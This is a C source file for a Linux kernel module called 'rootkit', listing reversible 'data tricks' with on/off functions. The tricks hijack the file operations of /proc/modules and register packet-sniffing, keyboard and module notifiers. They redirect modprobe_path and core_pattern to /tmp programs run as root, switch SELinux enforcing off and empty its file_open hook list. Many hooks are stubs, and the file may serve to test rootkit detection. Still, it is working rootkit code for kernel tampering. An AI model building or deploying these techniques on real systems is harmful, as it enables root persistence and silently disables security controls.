// SPDX-License-Identifier: GPL-2.0-or-later
/* Tricks that change data only: tables of functions, chains of callbacks, paths of programs, SELinux's state. */
#include <linux/fs.h>
#include <linux/if_ether.h>
#include <linux/keyboard.h>
#include <linux/lsm_hooks.h>
#include <linux/module.h>
#include <linux/netdevice.h>
#include <linux/netfilter_ipv4.h>
#include <linux/proc_fs.h>
#include <linux/rbtree.h>

#include "rootkit.h"

/* operations of /proc/modules: those of its entry, and those of its inode */

/* fs/proc/internal.h of Linux 6.1, as far as it is needed */
struct entry {
	atomic_t in_use;
	refcount_t refcnt;
	struct list_head pde_openers;
	spinlock_t pde_unload_lock;
	struct completion *pde_unload_completion;
	const struct inode_operations *proc_iops;
	const struct proc_ops *proc_ops;
	const struct dentry_operations *proc_dops;
	const struct seq_operations *seq_ops;
	proc_write_t write;
	void *data;
	unsigned int state_size;
	unsigned int low_ino;
	nlink_t nlink;
	kuid_t uid;
	kgid_t gid;
	loff_t size;
	struct entry *parent;
	struct rb_root subdir;
	struct rb_node subdir_node;
	char *name;
};

static struct entry *modules_entry;
static const struct proc_ops *entry_ops;
static struct proc_ops our_entry_ops;

static int open_entry(struct inode *inode, struct file *file)
{
	return entry_ops->proc_open(inode, file);
}

static struct entry *entry_of(const char *name)
{
	struct entry *ours = (struct entry *)control;
	struct rb_node *node;

	if (strcmp(ours->name, "rootkit")) /* the structure is another one */
		return NULL;
	for (node = rb_first(&ours->parent->subdir); node; node = rb_next(node)) {
		struct entry *entry = rb_entry(node, struct entry, subdir_node);

		if (!strcmp(entry->name, name))
			return entry;
	}
	return NULL;
}

static int proc_ops_on(pid_t pid)
{
	modules_entry = entry_of("modules");
	if (!modules_entry)
		return -ENOENT;
	entry_ops = modules_entry->proc_ops;
	our_entry_ops = *entry_ops;
	our_entry_ops.proc_open = open_entry;
	modules_entry->proc_ops = &our_entry_ops;
	return 0;
}

static int proc_ops_off(void)
{
	modules_entry->proc_ops = entry_ops;
	return 0;
}

static struct file *modules_file; /* held open: its inode stays */
static const struct file_operations *file_ops;
static struct file_operations our_file_ops;

static int open_file(struct inode *inode, struct file *file)
{
	return file_ops->open(inode, file);
}

static int file_ops_on(pid_t pid)
{
	modules_file = filp_open("/proc/modules", O_RDONLY, 0);
	if (IS_ERR(modules_file))
		return PTR_ERR(modules_file);
	file_ops = modules_file->f_inode->i_fop;
	our_file_ops = *file_ops;
	our_file_ops.open = open_file;
	modules_file->f_inode->i_fop = &our_file_ops;
	return 0;
}

static int file_ops_off(void)
{
	modules_file->f_inode->i_fop = file_ops;
	fput(modules_file);
	return 0;
}

/* callbacks: packets, keys, modules, network devices */

static unsigned int pass(void *context, struct sk_buff *packet, const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static const struct nf_hook_ops filter = {
	.hook = pass,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_PRE_ROUTING,
	.priority = NF_IP_PRI_FIRST,
};

static int netfilter_on(pid_t pid)
{
	return nf_register_net_hook(&init_net, &filter);
}

static int netfilter_off(void)
{
	nf_unregister_net_hook(&init_net, &filter);
	return 0;
}

static int receive(struct sk_buff *packet, struct net_device *device, struct packet_type *type, struct net_device *original)
{
	consume_skb(packet);
	return 0;
}

static struct packet_type sniffer = { .func = receive };

static int packet_handler_on(pid_t pid)
{
	sniffer.type = htons(ETH_P_ALL);
	dev_add_pack(&sniffer);
	return 0;
}

static int packet_handler_off(void)
{
	dev_remove_pack(&sniffer);
	return 0;
}

static int listen_to(struct notifier_block *block, unsigned long event, void *data)
{
	return NOTIFY_DONE;
}

static struct notifier_block keys = { .notifier_call = listen_to };
static struct notifier_block modules = { .notifier_call = listen_to };
static struct notifier_block devices = { .notifier_call = listen_to };

static int key_notifier_on(pid_t pid)
{
	return register_keyboard_notifier(&keys);
}

static int key_notifier_off(void)
{
	return unregister_keyboard_notifier(&keys);
}

static int module_notifier_on(pid_t pid)
{
	return register_module_notifier(&modules);
}

static int module_notifier_off(void)
{
	return unregister_module_notifier(&modules);
}

static int device_notifier_on(pid_t pid)
{
	return register_netdevice_notifier(&devices);
}

static int device_notifier_off(void)
{
	return unregister_netdevice_notifier(&devices);
}

/* programs that the kernel starts as root */

#define PROGRAM_LENGTH 32

static char core_before[PROGRAM_LENGTH], modprobe_before[PROGRAM_LENGTH];

static int replace(const char *name, const char *program, char *before)
{
	char *path = symbol(name);

	if (!path)
		return -ENOENT;
	memcpy(before, path, PROGRAM_LENGTH);
	strscpy(path, program, PROGRAM_LENGTH);
	return 0;
}

static int core_pattern_on(pid_t pid)
{
	return replace("core_pattern", "|/tmp/rootkit-core", core_before);
}

static int core_pattern_off(void)
{
	memcpy(symbol("core_pattern"), core_before, PROGRAM_LENGTH);
	return 0;
}

static int modprobe_path_on(pid_t pid)
{
	return replace("modprobe_path", "/tmp/rootkit-modprobe", modprobe_before);
}

static int modprobe_path_off(void)
{
	memcpy(symbol("modprobe_path"), modprobe_before, PROGRAM_LENGTH);
	return 0;
}

/* SELinux: its enforcing mode (the first member of selinux_state), and its hook on opening a file */

static int set_enforcing(bool enforcing)
{
	bool *state = symbol("selinux_state");

	if (!state)
		return -ENOENT;
	WRITE_ONCE(*state, enforcing);
	return 0;
}

static int selinux_enforcing_on(pid_t pid)
{
	return set_enforcing(false);
}

static int selinux_enforcing_off(void)
{
	return set_enforcing(true);
}

static struct hlist_head *open_hooks;
static struct hlist_head hooks_before;

static int selinux_hook_on(pid_t pid)
{
	static const struct hlist_head none = {};
	struct security_hook_heads *heads = symbol("security_hook_heads");

	if (!heads)
		return -ENOENT;
	open_hooks = &heads->file_open;
	hooks_before = *open_hooks;
	return overwrite(open_hooks, &none, sizeof(none));
}

static int selinux_hook_off(void)
{
	return overwrite(open_hooks, &hooks_before, sizeof(hooks_before));
}

struct trick data_tricks[] = {
	{ "proc-ops", proc_ops_on, proc_ops_off },
	{ "file-ops", file_ops_on, file_ops_off },
	{ "netfilter", netfilter_on, netfilter_off },
	{ "packet-handler", packet_handler_on, packet_handler_off },
	{ "key-notifier", key_notifier_on, key_notifier_off },
	{ "module-notifier", module_notifier_on, module_notifier_off },
	{ "device-notifier", device_notifier_on, device_notifier_off },
	{ "core-pattern", core_pattern_on, core_pattern_off },
	{ "modprobe-path", modprobe_path_on, modprobe_path_off },
	{ "selinux-enforcing", selinux_enforcing_on, selinux_enforcing_off },
	{ "selinux-hook", selinux_hook_on, selinux_hook_off },
	{},
};
